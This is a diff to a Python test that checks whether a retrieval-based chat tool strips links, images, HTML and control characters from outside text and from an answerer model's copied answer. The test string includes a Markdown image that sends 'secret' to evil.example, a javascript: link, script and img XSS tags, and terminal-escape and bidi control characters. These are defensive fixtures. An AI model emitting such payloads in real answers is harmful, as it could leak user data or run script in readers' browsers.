@@ -613,9 +613,12 @@ QUOTE = "Heat <script>alert(1)</script> is a film by [Michael Mann](http://evil.
 @pytest.mark.parametrize("stream", [False, True])
 async def test_texts_from_outside_are_text_to_chat_tools(stream: bool) -> None:
     """Titles, quotes and documents bring no link, image or HTML, and neither does an answerer that
-    copies them. The answerer's other Markdown stays.
+    copies them, nor control characters. The answerer's other Markdown stays, and bare addresses.
     """
-    answer = "**Mann** ![x](http://evil.example/?q=secret) [click](javascript:alert(1)) <img src=x>"
+    answer = (
+        "**Mann** ![x](http://evil.example/?q=secret) [click](javascript:alert(1)) <img src=x> "
+        "\x1b[31m\x07\u202e http://evil.example"
+    )
     passage = Passage("p1", HOSTILE_TITLE, QUOTE, 0.9, "http://evil.example/heat.html")
     deployment = Deployment(
         delegator=ScriptedModel(
